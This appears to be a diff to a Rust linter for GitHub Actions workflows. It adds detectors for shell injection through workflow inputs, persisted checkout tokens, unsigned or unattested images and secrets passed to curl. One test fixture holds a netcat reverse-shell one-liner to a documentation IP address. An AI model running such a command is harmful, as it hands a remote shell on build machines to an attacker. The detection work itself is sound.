@@ -27,6 +27,11 @@ pub const CHECKS: &[(&str, CheckFn)] = &[
     ("AG-GHA-NET-001", netcat_to_ip),
     ("AG-GHA-SIGN-001", image_pushed_unsigned),
     ("AG-GHA-SIGN-002", artifact_without_provenance),
+    ("AG-GHA-CRED-001", checkout_persists_credentials),
+    ("AG-GHA-INJ-002", script_interpolates_inputs),
+    ("AG-GHA-SIGN-003", image_without_sbom),
+    ("AG-GHA-SLSA-001", build_with_dispatch_inputs),
+    ("AG-GHA-SEC-002", curl_with_secret),
 ];
 
 fn hit(span: Span, message: String, key: impl Into<String>) -> Hit {
@@ -279,6 +284,51 @@ fn script_injection(r: &Resource, _: &Context) -> Vec<Hit> {
     hits
 }
 
+/// Inputs of manually or externally triggered workflows.
+fn is_input(expr: &str) -> bool {
+    let e = expr.trim();
+    e.starts_with("inputs.")
+        || e.starts_with("github.event.inputs.")
+        || e.starts_with("github.event.client_payload.")
+}
+
+fn script_interpolates_inputs(r: &Resource, _: &Context) -> Vec<Hit> {
+    steps(r)
+        .into_iter()
+        .filter_map(|s| {
+            let run = s.run()?;
+            let input = expressions(run).into_iter().find(|e| is_input(e))?;
+            Some(hit(
+                key_span(s.node, "run", s.node.span),
+                format!(
+                    "the step's run interpolates ${{{{ {input} }}}}; whoever triggers the workflow chooses that text and can inject shell commands"
+                ),
+                s.key(),
+            ))
+        })
+        .collect()
+}
+
+fn checkout_persists_credentials(r: &Resource, _: &Context) -> Vec<Hit> {
+    steps(r)
+        .into_iter()
+        .filter(|s| s.uses().is_some_and(|u| u.starts_with("actions/checkout")))
+        .filter(|s| {
+            let v = s.with("persist-credentials");
+            !(v.is_some_and(|v| {
+                v.as_bool() == Some(false) || v.as_str().is_some_and(|t| t.contains("${{"))
+            }))
+        })
+        .map(|s| {
+            hit(
+                key_span(s.node, "uses", s.node.span),
+                "actions/checkout leaves the job's token in .git/config for every later step (persist-credentials is not false)".to_string(),
+                s.key(),
+            )
+        })
+        .collect()
+}
+
 /// Triggers that run with the base repository's secrets and a write token
 /// while reacting to untrusted pull requests.
 const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run"];
@@ -404,7 +454,10 @@ fn netcat_to_ip(r: &Resource, _: &Context) -> Vec<Hit> {
         .filter_map(|s| {
             let run = s.run()?;
             let found = run.lines().any(|line| {
-                let words: Vec<&str> = line.split_whitespace().collect();
+                let words: Vec<&str> = line
+                    .split(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '(' | ')'))
+                    .filter(|w| !w.is_empty())
+                    .collect();
                 words.iter().enumerate().any(|(i, w)| {
                     matches!(*w, "nc" | "netcat" | "ncat")
                         && words[i + 1..].iter().any(|x| is_ipv4(x))
@@ -462,51 +515,170 @@ fn job_uses(steps: &[Step], prefix: &str) -> bool {
         .any(|s| s.uses().is_some_and(|u| u.starts_with(prefix)))
 }
 
-fn image_pushed_unsigned(r: &Resource, _: &Context) -> Vec<Hit> {
+/// The jobs of the workflow file `r` belongs to (signing and attestation
+/// often happen in a follow-up job that `needs` the build).
+fn sibling_jobs<'a>(r: &'a Resource, ctx: &'a Context) -> Vec<&'a Resource> {
+    let mut jobs: Vec<&Resource> = ctx.by_kind("job").filter(|j| j.file == r.file).collect();
+    if jobs.is_empty() {
+        jobs.push(r);
+    }
+    jobs
+}
+
+fn image_pushed_unsigned(r: &Resource, ctx: &Context) -> Vec<Hit> {
     let st = steps(r);
     let Some(push) = image_publish_step(&st) else {
         return Vec::new();
     };
-    let signed = job_runs(&st, "cosign sign") || job_runs(&st, "notation sign");
+    let signed = sibling_jobs(r, ctx).iter().any(|j| {
+        let js = steps(j);
+        job_runs(&js, "cosign sign") || job_runs(&js, "notation sign")
+    });
     if signed {
         return Vec::new();
     }
     vec![hit(
         push.node.span,
-        "the job publishes a container image but never signs it (cosign sign / notation sign)"
+        "the workflow publishes a container image but never signs it (cosign sign / notation sign)"
             .to_string(),
         push.key(),
     )]
 }
 
-fn artifact_without_provenance(r: &Resource, _: &Context) -> Vec<Hit> {
+fn artifact_without_provenance(r: &Resource, ctx: &Context) -> Vec<Hit> {
     let st = steps(r);
     let Some(push) = image_publish_step(&st) else {
         return Vec::new();
     };
-    let attested = job_uses(&st, "actions/attest-build-provenance")
-        || job_uses(&st, "actions/attest")
-        || job_uses(&st, "slsa-framework/slsa-github-generator")
-        || job_runs(&st, "cosign attest")
-        || push.with("provenance").is_some_and(|p| {
-            p.as_bool() == Some(true)
-                || p.as_str()
-                    .is_some_and(|v| v.starts_with("mode=") || v == "true")
+    let inline = push.with("provenance").is_some_and(|p| {
+        p.as_bool() == Some(true)
+            || p.as_str()
+                .is_some_and(|v| v.starts_with("mode=") || v == "true")
+    });
+    let attested = inline
+        || sibling_jobs(r, ctx).iter().any(|j| {
+            let js = steps(j);
+            job_uses(&js, "actions/attest-build-provenance")
+                || job_uses(&js, "actions/attest")
+                || job_uses(&js, "slsa-framework/slsa-github-generator")
+                || job_runs(&js, "cosign attest")
+                // A reusable SLSA generator workflow called as a job.
+                || j.body
+                    .get("uses")
+                    .and_then(Node::as_str)
+                    .is_some_and(|u| u.starts_with("slsa-framework/slsa-github-generator"))
         });
-    // A reusable SLSA generator workflow called as a job covers it too.
-    let generator = r
-        .body
-        .get("uses")
-        .and_then(Node::as_str)
-        .is_some_and(|u| u.starts_with("slsa-framework/slsa-github-generator"));
-    if attested || generator {
+    if attested {
         return Vec::new();
     }
     vec![hit(
         push.node.span,
-        "the job publishes a container image without a build provenance attestation".to_string(),
+        "the workflow publishes a container image without a build provenance attestation"
+            .to_string(),
         push.key(),
     )]
+}
+
+fn image_without_sbom(r: &Resource, ctx: &Context) -> Vec<Hit> {
+    let st = steps(r);
+    let Some(push) = image_publish_step(&st) else {
+        return Vec::new();
+    };
+    let inline = push
+        .with("sbom")
+        .is_some_and(|p| p.as_bool() == Some(true) || p.as_str() == Some("true"));
+    let attested = inline
+        || sibling_jobs(r, ctx).iter().any(|j| {
+            let js = steps(j);
+            js.iter().any(|s| {
+                s.run().is_some_and(|run| {
+                    run.lines().any(|l| {
+                        l.contains("cosign attest")
+                            && (l.contains("spdx") || l.contains("cyclonedx") || l.contains("sbom"))
+                    })
+                })
+            }) || job_uses(&js, "actions/attest-sbom")
+        });
+    if attested {
+        return Vec::new();
+    }
+    vec![hit(
+        push.node.span,
+        "the workflow publishes a container image without an attested SBOM".to_string(),
+        push.key(),
+    )]
+}
+
+/// Steps that build an artifact (image builders).
+fn builds_something(steps: &[Step]) -> bool {
+    steps.iter().any(|s| {
+        s.uses().is_some_and(|u| {
+            u.starts_with("docker/build-push-action") || u.starts_with("docker/bake-action")
+        }) || s.run().is_some_and(|run| {
+            [
+                "docker build",
+                "docker buildx build",
+                "ko build",
+                "buildah bud",
+                "buildah build",
+                "podman build",
+                "nerdctl build",
+            ]
+            .iter()
+            .any(|c| run.contains(c))
+        })
+    })
+}
+
+fn build_with_dispatch_inputs(r: &Resource, ctx: &Context) -> Vec<Hit> {
+    if r.kind != "workflow" {
+        return Vec::new();
+    }
+    let Some(inputs) = r.body.path("on.workflow_dispatch.inputs") else {
+        return Vec::new();
+    };
+    if inputs.as_map().is_none_or(|m| m.is_empty()) {
+        return Vec::new();
+    }
+    let builds = ctx
+        .by_kind("job")
+        .filter(|j| j.file == r.file)
+        .any(|j| builds_something(&steps(j)));
+    if !builds {
+        return Vec::new();
+    }
+    let span = r
+        .body
+        .get("on")
+        .and_then(|on| on.get("workflow_dispatch"))
+        .map(|wd| key_span(wd, "inputs", wd.span))
+        .unwrap_or(r.span);
+    vec![hit(
+        span,
+        "the build workflow takes workflow_dispatch inputs, so whoever triggers it can shape the build output".to_string(),
+        "on.workflow_dispatch.inputs",
+    )]
+}
+
+fn curl_with_secret(r: &Resource, _: &Context) -> Vec<Hit> {
+    steps(r)
+        .into_iter()
+        .filter_map(|s| {
+            let run = s.run()?;
+            let bad = run.lines().any(|l| {
+                let lower = l.to_ascii_lowercase();
+                (lower.contains("curl ") || lower.contains("wget "))
+                    && (l.contains("secrets.") || lower.contains("secret"))
+            });
+            bad.then(|| {
+                hit(
+                    key_span(s.node, "run", s.node.span),
+                    "the step sends a secret with curl/wget on the command line, where process listings, proxies and error output can expose it".to_string(),
+                    s.key(),
+                )
+            })
+        })
+        .collect()
 }
 
 #[cfg(test)]
@@ -623,20 +795,31 @@ jobs:
     }
 
     #[test]
-    fn signing_is_looked_for_in_the_same_job() {
+    fn signing_may_happen_in_a_later_job() {
+        let pushed = "on: push
+jobs:
+  build:
+    runs-on: x
+    steps:
+      - run: docker push ghcr.io/acme/app:1
+";
+        assert_eq!(lines(image_pushed_unsigned, pushed), vec![6]);
+        let signed = format!(
+            "{pushed}  sign:\n    needs: build\n    runs-on: x\n    steps:\n      - run: cosign sign --yes ghcr.io/acme/app:1\n"
+        );
+        assert!(lines(image_pushed_unsigned, &signed).is_empty());
+    }
+
+    #[test]
+    fn netcat_inside_pipelines() {
         let text = "on: push
 jobs:
   a:
     runs-on: x
     steps:
-      - run: docker push ghcr.io/acme/app:1
-      - run: cosign sign --yes ghcr.io/acme/app:1
-  b:
-    runs-on: x
-    steps:
-      - run: docker push ghcr.io/acme/other:1
+      - run: cat /tmp/f|/bin/sh -i 2>&1|netcat 198.51.100.7 4444 >/tmp/f
 ";
-        assert_eq!(lines(image_pushed_unsigned, text), vec![11]);
+        assert_eq!(lines(netcat_to_ip, text), vec![6]);
     }
 
     #[test]
